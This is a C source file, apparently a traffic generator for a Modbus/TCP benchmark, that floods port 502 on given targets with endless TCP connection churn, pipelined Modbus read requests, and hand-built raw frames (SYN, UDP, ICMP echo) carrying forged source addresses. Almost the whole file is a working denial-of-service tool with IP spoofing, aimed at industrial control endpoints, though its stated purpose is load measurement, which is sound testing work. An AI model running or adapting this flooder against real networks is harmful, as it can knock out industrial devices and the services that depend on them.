/*
 * What a host that wants to do harm sends as fast as one core can, for bench/flood.py.
 *
 *   flooder connections SOURCE TARGET...             opens TCP connections without end, and holds 400
 *   flooder requests    SOURCE TARGET...             64 connections, on each as many Modbus reads as it takes
 *   flooder forged      DEVICE STATION TARGET FROM   raw frames: SYN, UDP and echo requests whose sources are made up,
 *                                                    or with FROM other than "any" all have that one address
 *
 * TARGET is an IPv4 address; the port is 502. It runs until it gets a signal, and says nothing.
 * Not here: what the flood does to others. That is measured by load.c.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

enum { PORT = 502, HELD = 400, ASKERS = 64, DEPTH = 50, FRAME = 74, BATCH = 64, SYN_OPTIONS = 20 };

static void fail(const char *what) {
    perror(what);
    exit(2);
}

static struct sockaddr_in place(const char *text, int port) {
    struct sockaddr_in found = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (inet_pton(AF_INET, text, &found.sin_addr) != 1) fail(text);
    return found;
}

static int begin(const struct sockaddr_in *source, const struct sockaddr_in *target) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    if (bind(fd, (const struct sockaddr *)source, sizeof *source) == 0) {
        if (connect(fd, (const struct sockaddr *)target, sizeof *target) == 0 || errno == EINPROGRESS) return fd;
    }
    close(fd);
    return -1;
}

static void connections(const struct sockaddr_in *source, const struct sockaddr_in *targets, int count) {
    int held[HELD];
    memset(held, -1, sizeof held);
    for (unsigned turn = 0;; turn++) {
        int *slot = &held[turn % HELD];
        if (*slot >= 0) close(*slot);
        *slot = begin(source, &targets[turn % (unsigned)count]);
        if (*slot < 0) usleep(100); /* out of ports for a moment */
    }
}

static void requests(const struct sockaddr_in *source, const struct sockaddr_in *targets, int count) {
    static const uint8_t read_one[12] = {0, 1, 0, 0, 0, 6, 1, 3, 0, 0, 0, 1};
    static uint8_t batch[ASKERS][DEPTH * sizeof read_one];
    static size_t left[ASKERS]; /* of the batch, still to be sent */
    uint8_t sink[65536];
    unsigned transaction = 0;
    int poll = epoll_create1(0), fds[ASKERS];
    for (int i = 0; i < ASKERS; i++) fds[i] = -1;
    for (unsigned turn = 0;; turn++) {
        for (int i = 0; i < ASKERS; i++) {
            if (fds[i] >= 0) continue;
            fds[i] = begin(source, &targets[(unsigned)i % (unsigned)count]);
            left[i] = 0;
            struct epoll_event wanted = {.events = EPOLLIN | EPOLLOUT | EPOLLET, .data.u32 = (uint32_t)i};
            if (fds[i] >= 0) epoll_ctl(poll, EPOLL_CTL_ADD, fds[i], &wanted);
        }
        struct epoll_event events[ASKERS];
        int ready = epoll_wait(poll, events, ASKERS, 10);
        for (int n = 0; n < ready; n++) {
            int i = (int)events[n].data.u32;
            bool gone = events[n].events & (EPOLLERR | EPOLLHUP);
            ssize_t got = gone ? 0 : 1;
            if (!gone && events[n].events & EPOLLIN) {
                while ((got = recv(fds[i], sink, sizeof sink, 0)) > 0) {}
                if (got < 0 && errno == EAGAIN) got = 1;
            }
            while (got > 0) { /* until the socket takes no more; a frame that was begun is ended first */
                if (left[i] == 0) {
                    for (int k = 0; k < DEPTH; k++) { /* an id that is in use would be an error, and end the connection */
                        uint8_t *at = batch[i] + (size_t)k * sizeof read_one;
                        memcpy(at, read_one, sizeof read_one);
                        at[0] = (uint8_t)(++transaction >> 8);
                        at[1] = (uint8_t)transaction;
                    }
                    left[i] = sizeof batch[i];
                }
                ssize_t sent = send(fds[i], batch[i] + sizeof batch[i] - left[i], left[i], MSG_NOSIGNAL);
                if (sent < 0) {
                    if (errno != EAGAIN) got = 0;
                    break;
                }
                left[i] -= (size_t)sent;
            }
            if (got <= 0) {
                close(fds[i]);
                fds[i] = -1;
            }
        }
    }
}

/* --- frames made by hand ------------------------------------------------------------------------------------------ */

static uint32_t add_up(const uint8_t *data, size_t length, uint32_t sum) {
    for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)(data[i] << 8 | data[i + 1]);
    return length % 2 ? sum + (uint32_t)(data[length - 1] << 8) : sum;
}

static void put_sum(uint8_t *at, uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    sum = ~sum & 0xffff;
    at[0] = (uint8_t)(sum >> 8);
    at[1] = (uint8_t)sum;
}

/* One frame of `kind` 0 SYN, 1 UDP, 2 echo request; the Ethernet head is there already. Returns its length. */
static size_t make_frame(uint8_t *frame, int kind, uint32_t from, uint32_t to) {
    static const uint8_t options[SYN_OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
    uint8_t *ip = frame + 14, *body = ip + 20;
    size_t length = kind == 0 ? 20 + SYN_OPTIONS : 20;
    uint8_t protocol = (uint8_t[]){6, 17, 1}[kind];
    memset(ip, 0, 20 + length);
    ip[0] = 0x45;
    ip[3] = (uint8_t)(20 + length);
    ip[8] = 64;
    ip[9] = protocol;
    memcpy(ip + 12, &from, 4);
    memcpy(ip + 16, &to, 4);
    put_sum(ip + 10, add_up(ip, 20, 0));
    uint16_t port = (uint16_t)(1024 + rand() % 60000);
    uint32_t pseudo = add_up(ip + 12, 8, protocol + (uint32_t)length);
    if (kind == 2) {
        body[0] = 8;
        put_sum(body + 2, add_up(body, length, 0));
        return 14 + 20 + length;
    }
    body[0] = (uint8_t)(port >> 8);
    body[1] = (uint8_t)port;
    body[2] = PORT >> 8;
    body[3] = PORT & 0xff;
    if (kind == 1) {
        body[5] = (uint8_t)length;
        put_sum(body + 6, add_up(body, length, pseudo));
    } else {
        uint32_t sequence = (uint32_t)rand();
        memcpy(body + 4, &sequence, 4);
        body[12] = (20 + SYN_OPTIONS) / 4 << 4;
        body[13] = 2;
        body[14] = 0xff;
        memcpy(body + 20, options, sizeof options);
        put_sum(body + 16, add_up(body, length, pseudo));
    }
    return 14 + 20 + length;
}

static void forged(const char *device, const char *station, const char *target, const char *from) {
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct ifreq request = {0};
    strncpy(request.ifr_name, device, IFNAMSIZ - 1);
    if (fd < 0 || ioctl(fd, SIOCGIFINDEX, &request)) fail(device);
    struct sockaddr_ll on = {.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex};
    if (bind(fd, (struct sockaddr *)&on, sizeof on) || ioctl(fd, SIOCGIFHWADDR, &request)) fail("bind");
    uint32_t to = place(target, 0).sin_addr.s_addr;
    uint32_t fixed = strcmp(from, "any") ? place(from, 0).sin_addr.s_addr : 0;
    static uint8_t frames[BATCH][FRAME];
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    for (int i = 0; i < BATCH; i++) {
        unsigned byte[6];
        if (sscanf(station, "%x:%x:%x:%x:%x:%x", byte, byte + 1, byte + 2, byte + 3, byte + 4, byte + 5) != 6) fail(station);
        for (int n = 0; n < 6; n++) frames[i][n] = (uint8_t)byte[n];
        memcpy(frames[i] + 6, request.ifr_hwaddr.sa_data, 6);
        frames[i][12] = 8;
        parts[i].iov_base = frames[i];
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    for (;;) {
        for (int i = 0; i < BATCH; i++) {
            /* Made-up neighbours of the target's network, so that the kernel would answer them directly. */
            uint32_t source = fixed ? fixed : htonl((ntohl(to) & 0xffffff00u) | (100u + (unsigned)rand() % 150u));
            parts[i].iov_len = make_frame(frames[i], fixed ? 0 : i % 3, source, to);
        }
        if (sendmmsg(fd, messages, BATCH, 0) < 0 && errno != ENOBUFS && errno != EAGAIN) fail("sendmmsg");
    }
}

int main(int argc, char **argv) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    struct rlimit many;
    if (!getrlimit(RLIMIT_NOFILE, &many)) {
        many.rlim_cur = many.rlim_max;
        setrlimit(RLIMIT_NOFILE, &many);
    }
    if (argc == 6 && !strcmp(argv[1], "forged")) forged(argv[2], argv[3], argv[4], argv[5]);
    if (argc >= 4 && argc <= 3 + 16) {
        struct sockaddr_in source = place(argv[2], 0), targets[16];
        for (int i = 3; i < argc; i++) targets[i - 3] = place(argv[i], PORT);
        if (!strcmp(argv[1], "connections")) connections(&source, targets, argc - 3);
        if (!strcmp(argv[1], "requests")) requests(&source, targets, argc - 3);
    }
    fputs("usage: flooder connections|requests SOURCE TARGET... or forged DEVICE STATION TARGET FROM\n", stderr);
    return 2;
}
